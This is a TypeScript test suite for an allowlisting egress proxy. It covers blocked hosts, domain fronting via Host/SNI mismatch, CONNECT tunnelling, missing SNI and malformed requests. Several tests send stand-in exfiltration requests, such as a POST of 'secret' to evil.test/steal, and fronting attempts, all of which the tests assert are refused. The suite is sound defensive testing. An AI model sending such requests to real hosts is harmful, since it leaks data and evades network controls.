import t from 'tap';
import { createHash } from 'node:crypto';
import { once } from 'node:events';
import { Agent, request as httpsRequest } from 'node:https';
import { connect as netConnect, createServer, type AddressInfo } from 'node:net';
import { connect as tlsConnect } from 'node:tls';
import { send, START, startTestProxy, startUpstream } from './proxy-harness.js';

const ALLOWLIST = {
  domains: ['allowed.test'],
  url_prefixes: [
    { host: 'other.test', path: '/public/*', methods: ['GET'] },
    { host: 'untrusted.test', path: '', methods: [] },
  ],
};

void t.test('an allowed GET returns the upstream answer; a blocked one gets the 403 body; one line each', async (t) => {
  const upstream = await startUpstream(t);
  const tp = await startTestProxy(t, { allowlist: ALLOWLIST, httpsPort: upstream.port });

  const ok = await send(tp, { host: 'allowed.test', path: '/x?y=1' });
  t.equal(ok.status, 200);
  t.same(JSON.parse(ok.body), { method: 'GET', url: '/x?y=1', bytes: 0 });
  t.equal(ok.headers['x-upstream'], 'yes');

  const blocked = await send(tp, { host: 'evil.test', path: '/steal?data=1', method: 'POST', body: 'secret' });
  t.equal(blocked.status, 403);
  t.equal(blocked.headers['content-type'], 'application/json');
  t.same(JSON.parse(blocked.body), {
    error: 'blocked_by_network_allowlist',
    host: 'evil.test',
    path: '/steal?data=1',
    method: 'POST',
    message: 'POST https://evil.test/steal?data=1 is not in the network allowlist; to request access, add an entry for it to .airut/network-allowlist.yaml. '
      + 'Suggested entry (submit it as a PR):\nurl_prefixes:\n  - host: evil.test\n    path: /steal*\n    methods: [POST]\n',
  });

  const wrongMethod = await send(tp, { host: 'other.test', path: '/public/a', method: 'DELETE' });
  t.equal(wrongMethod.status, 403);
  const wrongMethodMessage: string = JSON.parse(wrongMethod.body).message;
  t.match(wrongMethodMessage, /^DELETE is not allowed for https:\/\/other\.test\/public\/a; .*methods/);
  for (const message of [JSON.parse(blocked.body).message as string, wrongMethodMessage]) {
    t.equal(message.split('to request access').length, 2, 'says "to request access" once');
    t.equal(message.split('network-allowlist.yaml').length, 2, 'names the allowlist file once');
  }

  t.equal(upstream.seen.length, 1, 'blocked requests never reach an upstream');
  t.equal(upstream.connections(), 1, 'and never open a connection to one');
  t.equal(tp.logText(), START
    + 'ALLOWED GET https://allowed.test/x?y=1 -> 200 [down: 41]\n'
    + 'BLOCKED POST https://evil.test/steal?data=1 -> 403\n'
    + 'BLOCKED DELETE https://other.test/public/a -> 403\n');
  t.same(tp.events.map((e) => [e.kind, e.level]), [['TASK_START', 'info'], ['ALLOWED', 'info'], ['BLOCKED', 'warn'], ['BLOCKED', 'warn']]);
});

void t.test('plain HTTP on port 80 is judged by the Host header and forwarded as HTTP', async (t) => {
  const upstream = await startUpstream(t, { tls: 'none' });
  const tp = await startTestProxy(t, { allowlist: ALLOWLIST, httpsPort: 1, httpPort: upstream.port });
  const ok = await send(tp, { scheme: 'http', host: 'allowed.test', path: '/plain' });
  t.equal(ok.status, 200);
  t.equal(upstream.seen[0]?.headers.host, `allowed.test:${tp.proxy.ports.http}`);
  const blocked = await send(tp, { scheme: 'http', host: 'evil.test', path: '/' });
  t.equal(blocked.status, 403);
  t.equal(tp.logText(), `${START}ALLOWED GET http://allowed.test/plain -> 200 [down: 41]\nBLOCKED GET http://evil.test/ -> 403\n`);
});

void t.test('CONNECT is refused with 405 and logged', async (t) => {
  const tp = await startTestProxy(t, { allowlist: ALLOWLIST, httpsPort: 1 });
  const socket = netConnect(tp.proxy.ports.http, '127.0.0.1');
  t.teardown(() => socket.destroy());
  socket.end('CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n');
  const chunks: Buffer[] = [];
  for await (const chunk of socket) chunks.push(chunk as Buffer);
  const answer = Buffer.concat(chunks).toString('utf8');
  t.match(answer, /^HTTP\/1\.1 405 Method Not Allowed\r\n/);
  t.match(answer, /"error":"connect_not_allowed"/);
  t.equal(tp.logText(), `${START}BLOCKED CONNECT allowed.test:443 -> 405 (tunnelling not allowed)\n`);
});

void t.test('a Host header that disagrees with SNI is refused (domain fronting)', async (t) => {
  const upstream = await startUpstream(t);
  const tp = await startTestProxy(t, { allowlist: ALLOWLIST, httpsPort: upstream.port });
  const fronted = await send(tp, { host: 'allowed.test', headers: { host: 'evil.test' }, path: '/a' });
  t.equal(fronted.status, 421);
  t.equal(JSON.parse(fronted.body).error, 'host_mismatch');
  t.equal(fronted.headers.connection, 'close');
  // The reverse: SNI names the blocked host, Host the allowed one.
  const reverse = await send(tp, { host: 'evil.test', headers: { host: 'allowed.test' }, path: '/b' });
  t.equal(reverse.status, 421);
  // A second Host header could steer a shared front end (CDN) to another site.
  const twoHosts = await send(tp, { host: 'allowed.test', headers: ['Host', 'allowed.test', 'Host', 'evil.test'], path: '/d' });
  t.equal(twoHosts.status, 400);
  // Case and port do not make a mismatch.
  const same = await send(tp, { host: 'allowed.test', headers: { host: 'ALLOWED.test:443' }, path: '/c' });
  t.equal(same.status, 200);
  t.equal(upstream.seen.length, 1);
  t.equal(tp.logText(), START
    + 'BLOCKED GET https://allowed.test/a -> 421 (host mismatch: sni=allowed.test, host=evil.test)\n'
    + 'BLOCKED GET https://evil.test/b -> 421 (host mismatch: sni=evil.test, host=allowed.test)\n'
    + 'BLOCKED GET https://allowed.test/d -> 400 (more than one Host header)\n'
    + 'ALLOWED GET https://allowed.test/c -> 200 [down: 37]\n');
});

void t.test('an absolute-form target naming another host is refused; a matching one is served', async (t) => {
  const upstream = await startUpstream(t);
  const tp = await startTestProxy(t, { allowlist: ALLOWLIST, httpsPort: upstream.port });
  const mismatch = await send(tp, { host: 'allowed.test', path: 'https://evil.test/x' });
  t.equal(mismatch.status, 403);
  t.same(JSON.parse(mismatch.body), {
    error: 'host_mismatch', host: 'allowed.test', url_host: 'evil.test', path: '/x', method: 'GET',
    message: 'Host mismatch: the request URL names "evil.test" but the request is for "allowed.test".',
  });
  const match = await send(tp, { host: 'allowed.test', path: 'https://allowed.test/y?z' });
  t.equal(match.status, 200);
  t.equal(upstream.seen[0]?.url, '/y?z', 'the upstream gets the origin-form path');
  t.equal(tp.logText(), START
    + 'BLOCKED GET https://allowed.test/x -> 403 (host mismatch: header=allowed.test, url=evil.test)\n'
    + 'ALLOWED GET https://allowed.test/y?z -> 200 [down: 39]\n');
});

void t.test('a TLS client without SNI is refused at the handshake and logged', async (t) => {
  const tp = await startTestProxy(t, { allowlist: ALLOWLIST, httpsPort: 1 });
  const socket = tlsConnect({ host: '127.0.0.1', port: tp.proxy.ports.https, ca: tp.caPem, rejectUnauthorized: false });
  t.teardown(() => socket.destroy());
  const [error] = (await once(socket, 'error')) as [Error];
  t.match(error.message, /alert|handshake|disconnected/i);
  await t.resolveMatch(waitForLine(tp, 'ERROR'), /^ERROR CLIENT 127\.0\.0\.1 -> TLS handshake refused: the client sent no server name \(SNI\)/);
});

void t.test('an upstream with an untrusted certificate gives 502 and an ERROR line', async (t) => {
  const upstream = await startUpstream(t, { tls: 'untrusted' });
  const tp = await startTestProxy(t, { allowlist: ALLOWLIST, httpsPort: upstream.port });
  const res = await send(tp, { host: 'untrusted.test', path: '/z' });
  t.equal(res.status, 502);
  const body = JSON.parse(res.body);
  t.equal(body.error, 'upstream_failed');
  t.match(body.message, /self.signed certificate/);
  t.equal(upstream.seen.length, 0);
  t.match(tp.logText(), new RegExp(`^${escape(START)}ERROR GET https://untrusted\\.test/z -> DEPTH_ZERO_SELF_SIGNED_CERT: self.signed certificate\\nALLOWED GET https://untrusted\\.test/z -> 502\\n$`));
});

void t.test('a 10 MB upload streams through without being buffered', async (t) => {
  let sawFirstBytes!: () => void;
  const firstBytes = new Promise<void>((resolve) => { sawFirstBytes = resolve; });
  const upstream = await startUpstream(t, {
    raw: (req, res) => {
      const hash = createHash('sha256');
      let bytes = 0;
      req.on('data', (chunk: Buffer) => {
        if (bytes === 0) sawFirstBytes();
        bytes += chunk.length;
        hash.update(chunk);
      });
      req.on('end', () => {
        res.writeHead(201, { 'content-type': 'application/json' });
        res.end(JSON.stringify({ bytes, sha256: hash.digest('hex') }));
      });
    },
  });
  const tp = await startTestProxy(t, { allowlist: ALLOWLIST, httpsPort: upstream.port });
  const body = Buffer.alloc(10 * 1024 * 1024);
  for (let i = 0; i < body.length; i++) body[i] = (i * 7) & 0xff;
  const req = httpsRequest({
    host: 'allowed.test', port: tp.proxy.ports.https, method: 'PUT', path: '/upload', ca: tp.caPem, agent: false,
    headers: { 'content-length': body.length },
    lookup: (_n, _o, cb) => cb(null, [{ address: '127.0.0.1', family: 4 }]),
  });
  // The first MiB must reach the upstream before the rest is even written: a buffering proxy would stall here.
  req.write(body.subarray(0, 1024 * 1024));
  await firstBytes;
  req.end(body.subarray(1024 * 1024));
  const [res] = await once(req, 'response');
  const chunks: Buffer[] = [];
  for await (const chunk of res) chunks.push(chunk as Buffer);
  t.equal(res.statusCode, 201);
  t.same(JSON.parse(Buffer.concat(chunks).toString()), { bytes: body.length, sha256: createHash('sha256').update(body).digest('hex') });
  t.equal(tp.logText(), `${START}ALLOWED PUT https://allowed.test/upload -> 201 [up: ${body.length}] [down: ${Buffer.concat(chunks).length}]\n`);
});

void t.test('a chunked upload without Content-Length arrives whole, re-framed by the proxy', async (t) => {
  const upstream = await startUpstream(t);
  const tp = await startTestProxy(t, { allowlist: ALLOWLIST, httpsPort: upstream.port });
  const req = httpsRequest({
    host: 'allowed.test', port: tp.proxy.ports.https, method: 'POST', path: '/git-receive-pack', ca: tp.caPem, agent: false,
    lookup: (_n, _o, cb) => cb(null, [{ address: '127.0.0.1', family: 4 }]),
  });
  req.write('first part, ');
  req.write('second part');
  req.end();
  const [res] = await once(req, 'response');
  res.resume();
  await once(res, 'end');
  t.equal(res.statusCode, 200);
  t.equal(upstream.seen[0]?.body.toString(), 'first part, second part');
  t.equal(upstream.seen[0]?.headers['transfer-encoding'], 'chunked');
});

void t.test('a streamed response (SSE) reaches the client event by event', async (t) => {
  let clientGotFirst!: () => void;
  const firstReceived = new Promise<void>((resolve) => { clientGotFirst = resolve; });
  const upstream = await startUpstream(t, {
    raw: (req, res) => {
      req.resume();
      res.writeHead(200, { 'content-type': 'text/event-stream' });
      res.write('event: message_start\ndata: {}\n\n');
      // The last event is only sent once the client has seen the first: a buffering proxy would deadlock here.
      void firstReceived.then(() => res.end('event: message_stop\ndata: {}\n\n'));
    },
  });
  const tp = await startTestProxy(t, { allowlist: ALLOWLIST, httpsPort: upstream.port });
  const req = httpsRequest({
    host: 'allowed.test', port: tp.proxy.ports.https, method: 'POST', path: '/v1/messages?beta=true', ca: tp.caPem, agent: false,
    lookup: (_n, _o, cb) => cb(null, [{ address: '127.0.0.1', family: 4 }]),
  });
  req.end('{"stream":true}');
  const [res] = await once(req, 'response');
  let text = '';
  for await (const chunk of res) {
    text += (chunk as Buffer).toString();
    if (text.includes('message_start')) clientGotFirst();
  }
  t.equal(text, 'event: message_start\ndata: {}\n\nevent: message_stop\ndata: {}\n\n');
  t.equal(tp.logText(), `${START}ALLOWED POST https://allowed.test/v1/messages?beta=true -> 200 [up: 15] [down: 61]\n`);
});

void t.test('keep-alive: the client connection and the upstream connection are reused', async (t) => {
  const upstream = await startUpstream(t);
  const tp = await startTestProxy(t, { allowlist: ALLOWLIST, httpsPort: upstream.port });
  const agent = new Agent({ keepAlive: true, maxSockets: 1 });
  t.teardown(() => agent.destroy());
  const first = await send(tp, { host: 'allowed.test', path: '/1', agent });
  const second = await send(tp, { host: 'allowed.test', path: '/2', agent });
  const third = await send(tp, { host: 'allowed.test', path: '/3', method: 'POST', body: 'x'.repeat(1000), agent });
  t.same([first.status, second.status, third.status], [200, 200, 200]);
  t.same([first.reusedSocket, second.reusedSocket, third.reusedSocket], [false, true, true]);
  t.equal(upstream.connections(), 1, 'one upstream connection for three requests');
});

void t.test('redirects are passed back, not followed; hop-by-hop headers do not cross', async (t) => {
  const upstream = await startUpstream(t, {
    handler: (_req, res) => {
      res.writeHead(302, { location: 'https://evil.test/next', connection: 'x-private', 'x-private': 'hop', 'x-kept': 'end' });
      res.end();
    },
  });
  const tp = await startTestProxy(t, { allowlist: ALLOWLIST, httpsPort: upstream.port });
  const res = await send(tp, {
    host: 'allowed.test', path: '/r',
    headers: ['Host', 'allowed.test', 'Connection', 'keep-alive, X-Hop', 'X-Hop', 'drop me', 'Proxy-Authorization', 'Basic eA==', 'X-Keep', 'a', 'X-Keep', 'b'],
  });
  t.equal(res.status, 302);
  t.equal(res.headers.location, 'https://evil.test/next');
  t.equal(res.headers['x-private'], undefined);
  t.equal(res.headers['x-kept'], 'end');
  const seen = upstream.seen[0]?.rawHeaders ?? [];
  t.notOk(seen.some((h) => /^(x-hop|proxy-authorization)$/i.test(h)), 'hop-by-hop request headers are removed');
  t.same(seen.filter((_h, i) => seen[i - 1] === 'X-Keep'), ['a', 'b'], 'duplicates keep their order');
  t.equal(upstream.seen.length, 1, 'the redirect target was not requested');
  t.equal(tp.logText(), `${START}ALLOWED GET https://allowed.test/r -> 302\n`);
});

void t.test('Expect: 100-continue is only answered for allowed requests', async (t) => {
  const upstream = await startUpstream(t);
  const tp = await startTestProxy(t, { allowlist: ALLOWLIST, httpsPort: upstream.port });
  const allowed = await send(tp, { host: 'allowed.test', path: '/e', method: 'POST', headers: { expect: '100-continue', 'content-length': '3' }, body: 'abc' });
  t.equal(allowed.status, 200);
  t.same(JSON.parse(allowed.body), { method: 'POST', url: '/e', bytes: 3 });
  t.notOk(upstream.seen[0]?.headers.expect, 'Expect is answered by the proxy, not forwarded');
  const blocked = await send(tp, { host: 'evil.test', path: '/e', method: 'POST', headers: { expect: '100-continue', 'content-length': '3' }, body: 'abc' });
  t.equal(blocked.status, 403);
  t.equal(blocked.headers.connection, 'close');
});

void t.test('malformed and oversized requests get an error status, and the proxy keeps serving', async (t) => {
  const upstream = await startUpstream(t);
  const tp = await startTestProxy(t, { allowlist: ALLOWLIST, httpsPort: upstream.port });
  const raw = async (text: string): Promise<string> => {
    const socket = netConnect(tp.proxy.ports.http, '127.0.0.1');
    t.teardown(() => socket.destroy());
    socket.end(text);
    const chunks: Buffer[] = [];
    for await (const chunk of socket) chunks.push(chunk as Buffer);
    return Buffer.concat(chunks).toString('utf8');
  };
  t.match(await raw('GARBAGE\r\n\r\n'), /^HTTP\/1\.1 400 /);
  t.match(await raw(`GET / HTTP/1.1\r\nHost: allowed.test\r\nX-Big: ${'a'.repeat(40 * 1024)}\r\n\r\n`), /^HTTP\/1\.1 431 /);
  t.match(await raw('GET * HTTP/1.1\r\nHost: allowed.test\r\n\r\n'), /^HTTP\/1\.1 400 [^]*unsupported_request_target/);
  t.match(await raw('GET /no-host HTTP/1.1\r\n\r\n'), /^HTTP\/1\.1 403 [^]*blocked_by_network_allowlist/);
  t.equal(await raw('GET /half HTTP/1.1\r\nHost: allowed.test\r\n'), '', 'a client that leaves mid-request gets nothing');
  t.match(await raw('get /lower HTTP/1.1\r\nHost: allowed.test\r\n\r\n'), /^HTTP\/1\.1 400 /);
  const ok = await send(tp, { host: 'allowed.test' });
  t.equal(ok.status, 200);
  // Client errors name the client by address (never as a URL) and quote its request line where there is one.
  t.match(tp.logText().split('\n'), [
    START.trimEnd(),
    'ERROR CLIENT 127.0.0.1 "GARBAGE" -> 400 malformed request (HPE_INVALID_METHOD: Invalid method encountered)',
    /^ERROR CLIENT 127\.0\.0\.1 (?:"GET \/ HTTP\/1\.1" )?-> 431 request headers too large \(HPE_HEADER_OVERFLOW: Header overflow\)$/,
    'BLOCKED GET http://allowed.test* -> 400',
    'BLOCKED GET http:///no-host -> 403',
    /^ERROR CLIENT 127\.0\.0\.1 (?:"GET \/half HTTP\/1\.1" )?-> the client closed the connection in the middle of a request \(HPE_INVALID_EOF_STATE\)$/,
    'ERROR CLIENT 127.0.0.1 "get /lower HTTP/1.1" -> 400 malformed request (HPE_INVALID_METHOD: Invalid method encountered)',
    'ALLOWED GET https://allowed.test/ -> 200 [down: 36]',
    '',
  ]);
  t.notMatch(tp.logText(), /https?:\/\/127\.0\.0\.1/, 'the client\'s address is never shown as a URL');
});

function waitForLine(tp: { events: { kind: string; line: string }[]; logText: () => string }, kind: string): Promise<string> {
  return new Promise((resolve) => {
    const check = (): void => {
      const found = tp.events.find((e) => e.kind === kind);
      if (found !== undefined) resolve(found.line);
      else setImmediate(check);
    };
    check();
  });
}

function escape(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}

void t.test('a port already in use is a typed error naming the ports', async (t) => {
  const blocker = createServer();
  blocker.listen(0, '127.0.0.1');
  await once(blocker, 'listening');
  t.teardown(() => new Promise<void>((resolve) => blocker.close(() => resolve())));
  const port = (blocker.address() as AddressInfo).port;
  await t.rejects(startTestProxy(t, { allowlist: ALLOWLIST, httpsPort: 1, extra: { http_port: port } }), {
    code: 'PROXY_LISTEN_FAILED',
    message: new RegExp(`HTTP ${port}.*EADDRINUSE`),
  });
});
